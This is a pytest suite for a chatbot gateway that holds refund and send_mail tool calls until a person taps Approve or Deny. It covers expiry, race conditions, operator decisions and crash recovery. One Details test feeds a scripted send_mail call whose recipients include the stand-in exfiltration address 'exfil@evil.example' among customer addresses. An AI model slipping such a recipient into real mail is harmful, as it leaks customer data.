"""Approvals through the gateway: the question with Approve / Deny, taps by the requester or
someone else, the operator's decision, expiry, races, and a crash while the tool ran."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from bot import Agent, Runner, tool
from bot.config import Settings
from bot.core.approvals import DECLINED_RESULT, DETAILS, EXPIRED_RESULT, UNKNOWN_RESULT
from bot.core.messages import Role
from bot.core.models.scripted import RecordedCall, ScriptedModel
from bot.core.stores.sqlite import SQLiteSessionStore
from bot.errors import ModelError, StorageError
from bot.gateway import turns
from bot.gateway.approvals.flow import (
    DETAILS_SENT,
    NOT_YOURS,
    OPERATOR_OWNER,
    TABLE,
    approval_rows,
    decide,
)
from bot.gateway.gateway import Gateway
from bot.gateway.inbox import Inbox
from tests.fakes.adapter import make_event
from tests.fakes.button_adapter import ButtonAdapter
from tests.fakes.clock import FakeClock

SECRET = b"k" * 32
refunds: list[tuple[str, float]] = []


@tool(needs_approval=True)
def refund(order_id: str, amount: float) -> str:
    """Refund an order.

    Args:
        order_id: The order.
        amount: How much.
    """
    refunds.append((order_id, amount))
    return f"refunded {amount} on {order_id}"


@tool(needs_approval=True)
def send_mail(to: str, body: str) -> str:
    """Send an e-mail for the customer.

    Args:
        to: The recipients.
        body: The text.
    """
    refunds.append((to, 0.0))
    return "sent"


@dataclass
class Rig:
    gateway: Gateway
    adapter: ButtonAdapter
    model: ScriptedModel
    store: SQLiteSessionStore
    clock: FakeClock

    async def ask(self, **fields: Any) -> dict[str, str]:
        """A message whose turn calls ``refund``: the question's buttons, label -> token."""
        self.model.add(ScriptedModel.call("refund", order_id="1001", amount=25))
        before = len(self.adapter.sent)
        assert await self.adapter.deliver(make_event("refund 1001", **fields))
        await self.adapter.wait_for_sent(before + 1)
        return {b.label: b.token for b in self.adapter.keyboards[-1]}

    async def tap(self, token: str, **fields: Any) -> bool:
        return await self.adapter.deliver(make_event("", tap_token=token, **fields))

    async def state(self) -> str:
        async with self.store.transaction() as tx:
            rows = await tx.fetchall(f"SELECT state FROM {TABLE}")
        assert len(rows) == 1
        return str(rows[0][0])

    def tool_results(self, call: RecordedCall) -> list[str | None]:
        return [m.content for m in call.messages if m.role is Role.TOOL]


@pytest.fixture
async def rig(tmp_path: Path) -> AsyncIterator[Rig]:
    refunds.clear()
    clock = FakeClock()
    store = SQLiteSessionStore(str(tmp_path / "chatflow.db"), clock=clock)
    model = ScriptedModel()
    runner = Runner(
        Agent(name="Billing", instructions="Bill.", tools=[refund, send_mail]), store, model=model
    )
    adapter = ButtonAdapter()
    settings = Settings(data_dir=tmp_path, approval_ttl_seconds=600)
    gateway = Gateway(runner, store, [adapter], settings, secret=SECRET)
    await gateway.start()
    await gateway.wait_ready()
    yield Rig(gateway, adapter, model, store, clock)
    await gateway.stop(grace=1)
    await store.close()


async def test_the_question_goes_out_with_approve_and_deny_and_nothing_runs(rig: Rig) -> None:
    buttons = await rig.ask()
    assert list(buttons) == ["Approve", "Deny"]
    assert rig.adapter.sent[-1].text == "May I refund an order?\nOrder id: 1001\nAmount: 25"
    assert refunds == []
    [row] = await approval_rows(rig.store)
    assert (row.tool_name, row.agent, row.arguments) == (
        "refund",
        "Billing",
        {"order_id": "1001", "amount": 25},
    )
    assert row.sender_ref.startswith("user_") and "user-1" not in row.sender_ref
    metrics = rig.gateway.metrics.render().decode()
    assert 'chatflow_approvals_total{event="requested"} 1.0' in metrics


async def test_a_rolled_back_question_is_not_counted_as_requested(
    rig: Rig, monkeypatch: pytest.MonkeyPatch
) -> None:
    """tx 2 fails after the approval row was written: no row, no count, one apology."""

    def failing_after_the_row(*args: object, **kwargs: object) -> object:
        raise StorageError("disk full")  # the last step of tx 2, after the approval's row

    monkeypatch.setattr(turns, "requested_human", failing_after_the_row)
    rig.model.add(ScriptedModel.call("refund", order_id="1001", amount=25))
    assert await rig.adapter.deliver(make_event("refund 1001"))
    [apology] = await rig.adapter.wait_for_sent(1)
    assert apology.text == rig.gateway.replies.apology
    assert await approval_rows(rig.store) == []
    metrics = rig.gateway.metrics.render().decode()
    assert 'chatflow_approvals_total{event="requested"}' not in metrics


async def test_approve_runs_the_tool_once_and_the_answer_follows(rig: Rig) -> None:
    buttons = await rig.ask()
    rig.model.add(ScriptedModel.reply("Refunded 25."))
    assert not await rig.tap(buttons["Approve"])
    await rig.adapter.wait_for_sent(2)
    assert rig.adapter.sent[-1].text == "Refunded 25."
    assert refunds == [("1001", 25.0)]
    assert rig.adapter.answers[-1][1] == "Approved."
    assert rig.tool_results(rig.model.requests[-1]) == ["refunded 25.0 on 1001"]
    assert await rig.state() == "done"
    # The keyboard is used: a second tap (a double tap, or Deny) changes nothing.
    assert not await rig.tap(buttons["Deny"])
    assert refunds == [("1001", 25.0)]
    assert len(rig.adapter.sent) == 2
    metrics = rig.gateway.metrics.render().decode()
    assert 'chatflow_approvals_total{event="approved"} 1.0' in metrics


async def test_deny_tells_the_model_the_user_declined(rig: Rig) -> None:
    buttons = await rig.ask()
    rig.model.add(ScriptedModel.reply("OK, no refund."))
    await rig.tap(buttons["Deny"])
    await rig.adapter.wait_for_sent(2)
    assert refunds == []
    assert rig.tool_results(rig.model.requests[-1]) == [DECLINED_RESULT]
    assert await rig.state() == "denied"
    assert 'chatflow_approvals_total{event="denied"} 1.0' in rig.gateway.metrics.render().decode()


async def test_another_group_member_is_refused_and_the_buttons_stay_usable(rig: Rig) -> None:
    group = {"chat_type": "group", "mentions_bot": True}
    buttons = await rig.ask(**group)
    assert not await rig.tap(buttons["Approve"], chat_type="group", sender_id="user-2")
    assert rig.adapter.answers[-1][1] == NOT_YOURS
    assert refunds == [] and await rig.state() == "pending"
    rig.model.add(ScriptedModel.reply("Refunded."))
    await rig.tap(buttons["Approve"], chat_type="group", sender_id="user-1")
    await rig.adapter.wait_for_sent(2)
    assert refunds == [("1001", 25.0)]


async def test_an_unanswered_approval_expires_and_the_model_hears_it(rig: Rig) -> None:
    buttons = await rig.ask()
    rig.model.add(ScriptedModel.reply("No answer, so no refund."))
    rig.clock.advance(seconds=599)
    assert await rig.gateway.approvals.expire_due() == 0
    rig.clock.advance(seconds=2)
    # Expired here or by the gateway's own timer, whichever looks first: once (the count).
    await rig.gateway.approvals.expire_due()
    await rig.adapter.wait_for_sent(2)
    assert rig.tool_results(rig.model.requests[-1]) == [EXPIRED_RESULT]
    assert await rig.state() == "expired"
    assert 'chatflow_approvals_total{event="expired"} 1.0' in rig.gateway.metrics.render().decode()
    # A late tap changes nothing.
    await rig.tap(buttons["Approve"])
    assert refunds == []


async def test_a_tap_after_the_expiry_time_expires_instead_of_approving(rig: Rig) -> None:
    buttons = await rig.ask()
    rig.model.add(ScriptedModel.reply("Too late."))
    rig.clock.advance(seconds=601)
    await rig.tap(buttons["Approve"])
    await rig.adapter.wait_for_sent(2)
    assert refunds == []
    assert await rig.state() == "expired"


async def test_racing_decisions_decide_once(rig: Rig) -> None:
    await rig.ask()
    [row] = await approval_rows(rig.store)
    rig.model.add(ScriptedModel.reply("Refunded."))
    approvals = rig.gateway.approvals
    outcomes = await asyncio.gather(
        *(approvals.decide(row.approval_id, "approve", by="operator") for _ in range(4)),
        approvals.decide(row.approval_id, "deny", by="operator"),
    )
    assert sorted(outcomes).count("decided") == 4
    await rig.adapter.wait_for_sent(2)
    assert len(refunds) <= 1
    assert await rig.gateway.approvals.decide(row.approval_id, "deny", by="user") == "decided"


async def test_a_new_message_while_pending_is_answered_and_the_approval_still_works(
    rig: Rig,
) -> None:
    buttons = await rig.ask()
    rig.model.add(ScriptedModel.reply("Your balance is 42."))
    assert await rig.adapter.deliver(make_event("balance?"))
    await rig.adapter.wait_for_sent(2)
    rig.model.add(ScriptedModel.reply("Refunded."))
    await rig.tap(buttons["Approve"])
    await rig.adapter.wait_for_sent(3)
    assert refunds == [("1001", 25.0)]
    assert rig.adapter.sent[-1].text == "Refunded."


async def test_an_operator_decision_from_another_process_is_adopted_and_run(rig: Rig) -> None:
    await rig.ask()
    [row] = await approval_rows(rig.store)
    # What `python -m bot approvals approve ID` does: no bot in that process.
    operator_inbox = Inbox(rig.store, owner=OPERATOR_OWNER)
    outcome, entry = await decide(
        rig.store,
        operator_inbox,
        row.approval_id,
        "approve",
        by="operator",
        now=rig.clock.now.timestamp(),
    )
    assert outcome == "approved" and entry is not None
    rig.model.add(ScriptedModel.reply("Refunded."))
    # Adopted here or by the gateway's own timer, whichever looks first: once.
    await rig.gateway.approvals.adopt_operator_decisions()
    await rig.adapter.wait_for_sent(2)
    assert refunds == [("1001", 25.0)]
    assert await rig.gateway.approvals.adopt_operator_decisions() == 0
    metrics = rig.gateway.metrics.render().decode()
    assert 'chatflow_approvals_total{event="approved"} 1.0' in metrics


async def test_found_running_after_a_crash_the_tool_is_not_run_again(rig: Rig) -> None:
    await rig.ask()
    [row] = await approval_rows(rig.store)
    # Decided in a process that then died while the tool ran (its row says running).
    dead_inbox = Inbox(rig.store, owner="a-process-that-died")
    await decide(
        rig.store,
        dead_inbox,
        row.approval_id,
        "approve",
        by="user",
        now=rig.clock.now.timestamp(),
    )
    async with rig.store.transaction() as tx:
        await tx.execute(f"UPDATE {TABLE} SET state = 'running' WHERE id = ?", (row.approval_id,))
    rig.model.add(ScriptedModel.reply("I am not sure it went through; please check."))
    # The restart's recovery hands the continuation back, as for any unanswered message.
    gateway = rig.gateway
    [entry] = await gateway.inbox.recover(3600, live_owners={gateway.inbox.owner})
    await gateway.turns.process(entry)
    await rig.adapter.wait_for_sent(2)
    assert refunds == []
    assert rig.tool_results(rig.model.requests[-1]) == [UNKNOWN_RESULT]
    assert await rig.state() == "done"


async def test_a_failed_answer_after_the_approved_tool_keeps_that_it_ran(rig: Rig) -> None:
    """G6: the model fails after the tool: the apology goes out, but the history and the
    row keep the call and its result, and the retry runs nothing without a new approval."""
    buttons = await rig.ask()
    rig.model.add(ModelError("upstream 500"))
    assert not await rig.tap(buttons["Approve"])
    [apology] = (await rig.adapter.wait_for_sent(2))[1:]
    assert apology.text == rig.gateway.replies.apology
    assert refunds == [("1001", 25.0)]
    [row] = await approval_rows(rig.store, states=("done",))
    assert row.result == "refunded 25.0 on 1001"
    # The person tries again: the model reads that the refund ran, and nothing runs twice.
    rig.model.add(ScriptedModel.reply("Your refund of 25 went through."))
    assert await rig.adapter.deliver(make_event("did it work?"))
    await rig.adapter.wait_for_sent(3)
    assert rig.tool_results(rig.model.requests[-1]) == ["refunded 25.0 on 1001"]
    assert refunds == [("1001", 25.0)] and await rig.state() == "done"


async def test_a_continuation_stopped_after_the_tool_ran_asks_the_model_again(rig: Rig) -> None:
    """A process died after the approved call's commit (its row says done, with the
    result): the recovered continuation does not run the tool again; the model answers
    from the kept result, which joins a history that lacks it."""
    await rig.ask()
    [row] = await approval_rows(rig.store)
    dead_inbox = Inbox(rig.store, owner="a-process-that-died")
    await decide(
        rig.store, dead_inbox, row.approval_id, "approve", by="user", now=rig.clock.now.timestamp()
    )
    async with rig.store.transaction() as tx:
        await tx.execute(
            f"UPDATE {TABLE} SET state = 'done', result_text = ? WHERE id = ?",
            ("refunded 25.0 on 1001", row.approval_id),
        )
    rig.model.add(ScriptedModel.reply("Refunded 25."))
    gateway = rig.gateway
    [entry] = await gateway.inbox.recover(3600, live_owners={gateway.inbox.owner})
    await gateway.turns.process(entry)
    sent = await rig.adapter.wait_for_sent(2)
    assert sent[-1].text == "Refunded 25." and refunds == []
    assert rig.tool_results(rig.model.requests[-1]) == ["refunded 25.0 on 1001"]


async def test_details_sends_the_whole_call_to_the_person_deciding(rig: Rig) -> None:
    """G5: the question cuts a long argument; Details sends it whole (once), the keyboard
    stays, and Approve then runs exactly what was shown."""
    to = "anna@example-customer.com,billing@example-customer.com,exfil@evil.example"
    body = "Hello Anna, here is your invoice. " + "x" * 300
    rig.model.add(ScriptedModel.call("send_mail", to=to, body=body))
    assert await rig.adapter.deliver(make_event("mail me the invoice"))
    [question] = await rig.adapter.wait_for_sent(1)
    buttons = {b.label: b.token for b in rig.adapter.keyboards[-1]}
    assert list(buttons) == ["Approve", "Deny", DETAILS] and body not in question.text
    assert not await rig.tap(buttons[DETAILS], sender_id="user-2")  # not theirs
    assert not await rig.tap(buttons[DETAILS])
    sent = await rig.adapter.wait_for_sent(2)
    assert to in sent[-1].text and body in sent[-1].text
    assert [notice for _, notice in rig.adapter.answers] == [NOT_YOURS, DETAILS_SENT]
    assert not await rig.tap(buttons[DETAILS])  # a second look: no second message
    rig.model.add(ScriptedModel.reply("Sent."))
    assert not await rig.tap(buttons["Approve"])
    await rig.adapter.wait_for_sent(3)
    assert refunds == [(to, 0.0)] and len(rig.adapter.sent) == 3
